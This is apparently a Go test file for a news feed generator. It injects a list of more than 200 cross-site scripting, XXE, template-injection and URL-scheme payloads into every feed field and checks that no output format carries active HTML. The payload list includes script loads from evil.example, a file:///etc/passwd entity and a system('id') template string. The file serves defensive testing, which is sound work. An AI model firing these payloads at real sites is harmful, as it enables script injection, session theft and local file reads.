package feedgen

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"regionwire/news"

	"golang.org/x/net/html"
)

// payloads returns strings that run a script somewhere if they are not
// treated as what they are: text, an address, or foreign HTML.
func payloads() []string {
	list := []string{
		`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
		`<script\x20type="text/javascript">alert(1);</script>`, "<script\n>alert(1)</script\n>", `<<script>alert(1);//<</script>`,
		`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
		`]]>]]&gt;<![CDATA[<script>alert(1)</script>]]>`, `</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
		`</textarea><script>alert(1)</script>`, `</description></item></channel></rss><script>alert(1)</script>`,
		`</content></entry><entry><id>x</id></entry>`, `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>`,
		`<!ENTITY x SYSTEM "file:///etc/passwd">&x;`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="javascript:alert(1)">`,
		`<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<applet code="x">`, `<base href="javascript:/a/-alert(1)///////">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel="stylesheet" href="//evil.example/x.css">`, `<style>@import'//evil.example/x.css'</style>`,
		`<style>*{background:url(javascript:alert(1))}</style>`, `<p style="position:fixed;inset:0;background:url(//evil.example)">`, `<form action="javascript:alert(1)"><button>x</button></form>`,
		`<isindex action="javascript:alert(1)" type=image>`, `<input autofocus onfocus=alert(1)>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<select><template><script>alert(1)</script></template></select>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
		`<a href=" javascript:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`, `<a href="javascript&Tab;:alert(1)">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example" target="_top" onclick="alert(1)">x</a>`,
		`<a href="https://a" href="javascript:alert(1)">x</a>`, `<img src="x" srcset="javascript:alert(1) 1x">`, `<img src="javascript:alert(1)">`, `<img src=x:x onerror=alert(1)//`,
		`<img """><script>alert(1)</script>">`, `<img src='x' onerror='alert(1)'`, `<image src=x onerror=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<video poster=javascript:alert(1)>`,
		`<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>`,
		`<div id="main" name="body">clobber</div>`, `<p id=__proto__>`, `<table background="javascript:alert(1)"><td>x`, `<xss contenteditable onblur=alert(1) tabindex=1>x`,
		`{{.Site}}{{template "main"}}`, `{{"<script>alert(1)</script>"}}`, `${alert(1)}`, `%3Cscript%3Ealert(1)%3C/script%3E`, `<%= system('id') %>`, `=HYPERLINK("http://evil.example")`,
		`javascript:alert(1)`, `JAVASCRIPT:alert(1)`, "\tjavascript:alert(1)", `javascript://vnexpress.net/%0Aalert(1)`, `data:text/html;base64,PHNjcmlwdD4=`, `vbscript:x`, `file:///etc/passwd`,
		`//evil.example/x`, `https:evil.example`, `https://user:pass@evil.example/`, "https://evil.example/\"onmouseover=\"alert(1)", `https://evil.example/'onmouseover='alert(1)`, `https://evil.example/<script>`,
		`http://evil.example/` + strings.Repeat("a", 10_000), "\u202egnp.exe", "\ufeff<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<\xf0\x28\x8c\x28script>", "\xc0\xbcscript\xc0\xbe", "<p>" + strings.Repeat("<b>", 600) + "<script>alert(1)</script>",
	}
	tags := []string{"img src=x", "svg", "p", "a href=https://a", "video", "b", "table", "details open", "input", "iframe"}
	events := []string{"onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerdown", "onbeforeinput", "ONLOAD", "on\x0cerror"}
	for _, tag := range tags {
		for _, event := range events {
			list = append(list, fmt.Sprintf("<%s %s=alert(1)>x</%s>", tag, event, strings.Fields(tag)[0]))
		}
	}
	return list
}

// poisoned returns a site, and an article with its carrier, that say payload
// wherever a stranger or a careless admin can say something.
func poisoned(payload string) (Tables, []*news.Article) {
	t := newsroom()
	t.Site.Name, t.Site.Footer, t.Site.Contact, t.Site.Language = payload, payload, "mailto:"+payload, payload
	for _, s := range t.Sources {
		s.Name, s.Rights.Full, s.Rights.Credit = payload, true, payload
		s.Channels[0].URL = payload
	}
	for i := range t.Feeds {
		t.Feeds[i].Title, t.Feeds[i].Description, t.Feeds[i].Language = payload, payload, payload
	}
	t.Place = func(string) string { return payload }
	region := "vn/" + strings.ReplaceAll(payload[:min(len(payload), 400)], "\x00", "") // what the store takes
	list := partyWork()
	for _, a := range list {
		a.HTML, a.Language = "<p>x</p>"+payload, payload
		a.Enclosures = []news.Enclosure{{URL: payload, Type: "audio/" + payload}, {URL: "https://a.example/1.mp3", Type: payload}}
		a.Shown.Title, a.Shown.Kicker, a.Shown.Lead, a.Shown.Byline = payload, payload, payload, payload
		a.Shown.Image = news.Image{URL: payload, Alt: payload, Caption: payload}
		a.Shown.Places = []string{region}
		a.Places = []news.Place{{Region: region, Score: 90, Evidence: []news.Evidence{{Field: payload, Text: payload, Reason: payload}}}}
	}
	list[1].Shown.Link = payload
	return t, list
}

func TestNoPayloadRunsInAnyFeed(t *testing.T) {
	// threats 7, 9 and 46, bad inputs 86–92
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("%d payloads", len(all))
	}
	for _, payload := range all {
		poison, list := poisoned(payload)
		tables := compile(poison)
		p := printed(t, tables, entered("soc-son", list[0], list[1], list[2]), lookup(list...))
		head := tables.head(tables.outlet(tables.births["soc-son"]), at("2020-09-10", "09:00"))
		for _, f := range formats {
			body, failures, err := conform(f, head, []*post{p}, nil)
			if err != nil || len(failures) > 0 {
				t.Errorf("%.80q, %s: %v, %v", payload, f.name, err, failures)
				continue
			}
			for _, text := range texts(t, f, body) {
				for _, fault := range active(text) {
					t.Errorf("%.80q, %s: %s", payload, f.name, fault)
				}
			}
		}
	}
}

// texts returns what readers show of a document as HTML.
func texts(t *testing.T, f *format, body []byte) []string {
	t.Helper()
	r, err := f.read(body)
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	for _, item := range r.items {
		list = append(list, item.text, fmt.Sprintf(`<a href="%s">x</a>`, html.EscapeString(item.link)))
	}
	if f.extension == extJSON && !json.Valid(body) {
		t.Error("not JSON")
	}
	return list
}

// harmlessTags are the elements that texts of entries may have.
var harmlessTags = strings.Fields(`html head body a abbr address article aside audio b bdi bdo blockquote br caption center cite code col colgroup
	dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p picture pre
	q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var video wbr`)

// active returns everything in a piece of HTML that could run or load what it
// should not.
func active(text string) []string {
	var faults []string
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		return []string{err.Error()}
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(harmlessTags, n.Data) {
			faults = append(faults, "element "+n.Data)
		}
		faults = append(faults, activeAttributes(n)...)
	}
	return faults
}

// activeAttributes returns the attributes of n that could run something.
func activeAttributes(n *html.Node) []string {
	var faults []string
	seen := make(map[string]bool)
	for _, a := range n.Attr {
		name := strings.ToLower(a.Key)
		value := strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, a.Val))
		switch {
		case strings.HasPrefix(name, "on"), name == "style", name == "srcdoc", name == "formaction", name == "id" && n.Data != "main":
			faults = append(faults, "attribute "+name)
		case seen[name]:
			faults = append(faults, "attribute twice: "+name)
		case name == "href", name == "src", name == "poster", name == "cite", name == "background", name == "srcset", name == "data":
			if !strings.HasPrefix(value, "https://") && !strings.HasPrefix(value, "http://") && !strings.HasPrefix(value, "mailto:") {
				faults = append(faults, fmt.Sprintf("%s=%.60q", name, a.Val))
			}
		}
		seen[name] = true
	}
	return faults
}

// FuzzFeed looks for text of a paper that makes a document unreadable or
// carries something that runs.
func FuzzFeed(f *testing.F) {
	for i, payload := range payloads() {
		if i%10 == 0 {
			f.Add(payload, payload, "<p>"+payload)
		}
	}
	f.Add("a\r\nb", "\xff\xfe", "<p>&#13;&#xD800;&#0;\u0085\ufdd0</p>")
	f.Add("  ", "\u200b", "<pre>\n\n x</pre>")
	whole := newsroom()
	for _, s := range whole.Sources {
		s.Rights.Full = true
	}
	extracts, wholes := compile(newsroom()), compile(whole)
	f.Fuzz(func(t *testing.T, title, lead, body string) {
		tables := extracts
		if len(body)%2 == 0 {
			tables = wholes
		}
		a := partyWork()[0]
		a.Shown.Title, a.Shown.Lead, a.HTML, a.Shown.Byline = title, lead, body, lead
		a.Shown.Image.URL, a.Shown.Image.Alt, a.Language = "https://a.example/"+lead, title, title
		p := printed(t, tables, entered("soc-son", a), lookup(a))
		head := tables.head(tables.outlet(tables.births["soc-son"]), at("2020-09-10", "09:00"))
		for _, format := range formats {
			doc, failures, err := conform(format, head, []*post{p}, nil)
			if err != nil || len(failures) > 0 {
				t.Fatalf("%s: %v, %v", format.name, err, failures)
			}
			for _, text := range texts(t, format, doc) {
				for _, fault := range active(text) {
					t.Errorf("%s: %s", format.name, fault)
				}
			}
		}
	})
}
